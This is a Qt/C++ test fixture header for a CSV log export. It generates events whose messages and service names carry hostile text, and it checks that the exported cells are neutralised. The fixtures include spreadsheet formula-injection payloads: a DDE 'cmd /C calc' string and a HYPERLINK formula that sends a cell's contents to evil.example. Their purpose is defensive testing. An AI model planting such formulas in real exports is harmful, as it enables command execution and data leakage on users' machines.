#pragma once

#include "csvreadback.h"
#include "events/event.h"
#include "telemetry/eventcsv.h"

#include <QByteArray>
#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QStringList>
#include <QTest>

#include <chrono>
#include <vector>

// Events for the CSV export tests, and what their rows must read back as. The expected cells are
// worked out from the log contract (design.md) and the neutralising rule, not by the formatter.
namespace breakwater::csvexporttest {

inline constexpr qint64 kBaseMs = 1'764'342'245'000; // 2025-11-28T15:04:05Z
inline constexpr int kLargeRows = 300'000;

// Text from outside (servers, config) that must come back cell for cell. Under
// LogRowChunk::kMaxTextLength, which the log table cuts text at.
inline QStringList hostileTexts()
{
    QString longText = QStringLiteral("=");
    while (longText.size() < 15'000)
        longText += QStringLiteral("a\"b,c\r\nd日😀");
    return {
        QStringLiteral("HTTP 503 Service Unavailable"),
        QStringLiteral("=1+1"),
        QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("-2"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")"),
        QStringLiteral("say \"hi\", then \"\"bye\"\""),
        QStringLiteral("line 1\nline 2\rline 3\r\nline 4"),
        QStringLiteral("café, 日本語のエラー, 😀🎉"),
        QString(),
        longText,
    };
}

// The third is hostile too: a service name comes from the config file.
inline QStringList services()
{
    return {QStringLiteral("elevenlabs"), QStringLiteral("tts-b"),
            QStringLiteral("=cmd|' /C calc'!A0")};
}

// Every field varies with i, absent ones included, so each column is checked against more than
// one kind of value.
inline Event hostileEvent(int i)
{
    static const QStringList texts = hostileTexts();
    const auto n = int(texts.size());
    Event e;
    e.sequence = std::uint64_t(i) + 1;
    e.time =
        WallTime(std::chrono::milliseconds(kBaseMs + i * 7)) + std::chrono::microseconds(i % 1000);
    e.type = EventType(i % kEventTypeCount);
    e.level = EventLevel(i % 5);
    static const QStringList names = services();
    e.service = names[i % 3];
    e.callId = i % 5 == 0 ? 0 : std::uint64_t(i);
    e.attempt = i % 4;
    if (i % 2 == 1)
        e.state = BreakerState(i % 5);
    if (i % 7 == 0) {
        e.fromState = BreakerState((i / 7) % 5);
        e.toState = BreakerState((i / 7 + 1) % 5);
    }
    if (i % 3 == 0)
        e.reason = texts[(i + 1) % n];
    if (i % 3 != 1)
        e.latencyMs = i * 0.25; // exact in binary: the expected text needs no rounding rule
    if (i % 4 == 1)
        e.delayMs = i % 8 == 1 ? -std::int64_t(i) : std::int64_t(i) * 10;
    if (i % 6 != 0)
        e.errorKind = ErrorKind(i % 4);
    e.httpStatus = i % 3 == 0 ? 0 : 400 + i % 200;
    if (i % 2 == 0)
        e.errorCode = texts[(i + 2) % n];
    e.message = texts[i % n];
    return e;
}

inline std::vector<Event> hostileEvents(int count)
{
    std::vector<Event> events;
    events.reserve(std::size_t(count));
    for (int i = 0; i < count; ++i)
        events.push_back(hostileEvent(i));
    return events;
}

// The columns of EventCsvFormatter for one event, worked out from the log contract
// (design.md) rather than by the formatter's code.
inline QStringList expectedCells(const Event& e)
{
    const auto optionalName = [](const auto& value, auto name) {
        return value ? name(*value) : QString();
    };
    const auto nonZero = [](qint64 value) {
        return value ? QString::number(value) : QString();
    };
    QString latency;
    if (e.latencyMs) {
        latency = QString::number(*e.latencyMs, 'f', 3);
        while (latency.endsWith(QLatin1Char('0')))
            latency.chop(1);
        if (latency.endsWith(QLatin1Char('.')))
            latency.chop(1);
    }
    const qint64 ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(e.time.time_since_epoch()).count();
    return {
        QDateTime::fromMSecsSinceEpoch(ms).toUTC().toString(Qt::ISODateWithMs),
        eventLevelName(e.level),
        eventTypeName(e.type),
        csvtest::neutralised(e.service),
        e.callId ? QStringLiteral("call-%1").arg(e.callId) : QString(),
        nonZero(e.attempt),
        optionalName(e.state, breakerStateName),
        optionalName(e.fromState, breakerStateName),
        optionalName(e.toState, breakerStateName),
        csvtest::neutralised(e.reason),
        latency,
        e.delayMs ? QString::number(*e.delayMs) : QString(),
        optionalName(e.errorKind, errorKindName),
        nonZero(e.httpStatus),
        csvtest::neutralised(e.errorCode),
        csvtest::neutralised(e.message),
    };
}

inline QStringList headerCells()
{
    QStringList header;
    for (const std::string_view column : EventCsvFormatter::kColumns)
        header.append(QString::fromLatin1(column.data(), qsizetype(column.size())));
    return header;
}

inline QByteArray contents(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("<unreadable>");
}

inline void writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    QCOMPARE(file.write(bytes), bytes.size());
}

// The entries of a directory: what an export left behind, temporary files included.
inline QStringList entries(const QString& dir)
{
    return QDir(dir).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot, QDir::Name);
}

// Rows of the big export, as a flood of failures would leave them: a few distinct
// messages, long ones (still interned by the string table), so the export takes many
// progress intervals even in a release build and a cancel reliably lands mid-way.
inline std::vector<Event> largeEvents()
{
    const QString detail =
        QStringLiteral("; the upstream text-to-speech provider is overloaded, retry later")
            .repeated(3);
    std::vector<Event> events;
    events.reserve(kLargeRows);
    for (int i = 0; i < kLargeRows; ++i) {
        Event e;
        e.sequence = std::uint64_t(i) + 1;
        e.time = WallTime(std::chrono::milliseconds(kBaseMs + i));
        e.type = EventType::AttemptFailed;
        e.level = EventLevel::Warning;
        e.service = QStringLiteral("elevenlabs");
        e.callId = std::uint64_t(i / 3) + 1;
        e.attempt = i % 3 + 1;
        e.state = BreakerState::Closed;
        e.latencyMs = 250.125;
        e.errorKind = ErrorKind::Transient;
        e.httpStatus = 503;
        e.message = QStringLiteral("HTTP 503 Service Unavailable: shard %1").arg(i % 16) + detail;
        events.push_back(std::move(e));
    }
    return events;
}

} // namespace breakwater::csvexporttest
